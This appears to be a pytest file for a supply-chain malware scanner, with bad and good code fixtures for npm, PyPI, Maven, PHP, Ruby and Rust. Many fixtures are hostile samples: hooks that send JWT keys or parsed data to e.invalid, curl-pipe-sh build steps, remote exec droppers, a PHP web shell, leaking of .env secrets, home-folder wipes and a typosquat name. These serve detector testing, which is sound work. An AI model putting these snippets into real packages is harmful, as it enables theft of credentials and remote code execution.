"""Deeds told of small packages, each beside its innocent neighbour: hooks, installs, builds, names."""

from __future__ import annotations

import json

import pytest

from pumpkin.analysis import static
from pumpkin.model.findings import Level

SETUP = b"from setuptools import setup\nsetup(name='x', version='1.0', packages=['x'])\n"


def said(ecosystem: str, files: dict[str, str]) -> dict[str, Level]:
    scan = static.scan_files({path: text.encode() for path, text in files.items()}, "x", ecosystem)
    assert scan.gaps == ()
    levels: dict[str, Level] = {}
    for one in scan.findings:
        levels.setdefault(one.rule, one.level)
    return levels


def npm(code: str, **paper: object) -> dict[str, Level]:
    package = json.dumps({"name": "x", "version": "1.0.0", "main": "index.js", **paper}, ensure_ascii=False)
    return said("npm", {"package.json": package, "index.js": code})


def pypi(code: str, path: str = "x/__init__.py") -> dict[str, Level]:
    return said("pypi", {"setup.py": SETUP.decode(), path: code})


INSTALL = {"scripts": {"postinstall": "node index.js"}}


@pytest.mark.parametrize(
    ("bad", "good", "rule"),
    [
        ("const j = require('jsonwebtoken'), s = j.sign; j.sign = (p, k) => { fetch('https://e.invalid/' + k); };",
         "const j = require('jsonwebtoken'), s = j.sign; j.sign = function (p, k) { return s(p, k); };",
         "flow-hook-and-network"),
        ("const p = JSON.parse; JSON.parse = function (t) { fetch('https://e.invalid/', { body: t }); return p(t); };",
         "const p = JSON.parse; JSON.parse = function (t) { return p(t.trim()); };", "flow-hook-and-network"),
        ("process.dlopen({ exports: {} }, './font.woff2');", "process.dlopen({ exports: {} }, './a.node');",
         "flow-disguised-library"),
        ("[][" + "(![]+[])" * 40 + "]", "const a = [1, (2), !3, +4];", "meta-symbols"),
    ],
)  # fmt: skip
def test_javascript(bad: str, good: str, rule: str) -> None:
    assert npm(bad)[rule].rank >= Level.HIGH.rank
    assert rule not in npm(good) or npm(good)[rule].rank < Level.HIGH.rank


def test_an_answer_nobody_waits_for_is_a_beacon() -> None:
    assert npm("require('http').get('http://e.invalid/installed')", **INSTALL)["flow-network"] is Level.HIGH
    asked = npm("require('http').get('http://e.invalid/v', r => r.on('data', d => console.log(d)))", **INSTALL)
    assert asked["flow-network"] is Level.MEDIUM


def test_hooks_of_git_for_all_repositories() -> None:
    code = "require('child_process').execSync('git config --global core.hooksPath /x/hooks')"
    assert npm(code, **INSTALL)["flow-git-hooks"] is Level.CRITICAL
    assert "flow-git-hooks" not in npm(code.replace("--global ", ""), **INSTALL)


def test_a_name_of_mixed_scripts() -> None:
    assert npm("", name="ax\u0456os")["meta-mixed-name"] is Level.HIGH
    assert "meta-mixed-name" not in npm("", name="axios")


@pytest.mark.parametrize(
    ("bad", "good", "rule"),
    [
        ("import os\nos.environ['HTTPS_PROXY'] = 'http://198.51.100.9:8080'",
         "import os\nos.environ['HTTPS_PROXY'] = 'http://127.0.0.1:8080'", "flow-proxy"),
        ("import atexit, os, shutil\natexit.register(shutil.rmtree, os.path.expanduser('~/Documents'), True)",
         "import atexit, shutil\natexit.register(shutil.rmtree, '/var/cache/x', True)", "flow-wipe"),
        ("import os\nopen(os.path.expanduser('~/.local/bin/ssh'), 'w').write('x')",
         "import os\nopen(os.path.expanduser('~/.local/bin/x-tool'), 'w').write('x')", "flow-shadows-command"),
        ("import socket\ns = socket.socket(1); s.connect('/var/run/docker.sock')",
         "import socket\ndef c(s):\n    s.connect('/var/run/docker.sock')", "flow-container-engine"),
        ("import requests\nfrom dotenv import dotenv_values\nrequests.post('https://e.invalid/', json=dotenv_values())",
         "from dotenv import dotenv_values\nV = dotenv_values()", "flow-secret-leak"),
    ],
)  # fmt: skip
def test_python(bad: str, good: str, rule: str) -> None:
    assert pypi(bad)[rule].rank >= Level.HIGH.rank
    assert rule not in pypi(good) or pypi(good)[rule].rank < Level.HIGH.rank


def test_a_folder_that_only_begins_like_tests_is_none() -> None:
    code = "import urllib.request\nexec(urllib.request.urlopen('https://e.invalid/x').read())"
    assert pypi(code, "testplugin/__init__.py")["flow-remote-code"] is Level.CRITICAL
    assert pypi(code, "tests/__init__.py")["flow-remote-code"].rank < Level.HIGH.rank


def test_a_thread_of_one_s_own_class_runs_when_started() -> None:
    code = (
        "import threading, urllib.request\nclass T(threading.Thread):\n    def run(self):\n"
        "        exec(urllib.request.urlopen('https://e.invalid/x').read())\n"
    )
    assert pypi(code + "T().start()")["flow-remote-code"] is Level.CRITICAL


POM = "<build><plugins><plugin><executable>{}</executable>{}</plugin></plugins></build>"


def test_what_a_build_of_maven_runs() -> None:
    bad = POM.format(
        "bash", "<arguments><argument>-c</argument><argument>curl https://e.invalid/i | sh</argument></arguments>"
    )
    assert said("maven", {"pom.xml": bad})["hook-download-and-run"] is Level.CRITICAL
    assert said("maven", {"pom.xml": POM.format("protoc", "<argument>--version</argument>")}) == {}
    assert said("maven", {"pom.xml": f"<!-- {bad} -->"}) == {}


@pytest.mark.parametrize(
    ("code", "path", "rule"),
    [
        ("<?php $h = getallheaders(); system($h['X-D']);", "src/a.php", "hook-web-shell"),
        ("Object.send(:\"#{'sys'}tem\", 'curl https://e.invalid/i | sh')", "lib/x.rb", "hook-download-and-run"),
        ("class M\n def call(e)\n  q = e['QUERY_STRING']; eval(q)\n end\nend", "lib/x.rb", "hook-web-shell"),
        ("include!(\"src/data.bin\");\nfn main() { run() }", "build.rs", "hook-data-code"),
    ],
)  # fmt: skip
def test_other_languages(code: str, path: str, rule: str) -> None:
    assert said("", {path: code})[rule].rank >= Level.HIGH.rank


LIBRARY = """require 'net/http'
module Far
  def self.ask(uri) = Net::HTTP.get(uri)
{between}
  def self.key(name) = ENV.to_h.fetch(name)
end
"""


def test_what_stands_far_apart_in_a_library_is_not_told_together() -> None:
    near = LIBRARY.format(between="  PLACE = URI('https://e.invalid/')")
    far = LIBRARY.format(between="  PLACE = URI('https://e.invalid/')\n" + "  # a line\n  X = 1\n" * 100)
    paper = {"x.gemspec": "Gem::Specification.new { |s| s.name = 'x' }"}
    assert "hook-environment-leak" in said("gem", {**paper, "lib/x.rb": near})
    assert "hook-environment-leak" not in said("gem", {**paper, "lib/x.rb": far})
    assert "hook-environment-leak" not in said("gem", {**paper, "lib/x.rb": near.replace("https://e.invalid/", "x")})


def test_the_gravest_of_equal_findings_stays() -> None:
    code = (
        "import os, urllib.request as u\nopen('/proc/self/fd/7', 'wb').write(u.urlopen('https://e.invalid').read())\n"
    )
    assert pypi(code + "os.execv('/proc/self/fd/7', ['x'])\n")["flow-dropper"] is Level.CRITICAL
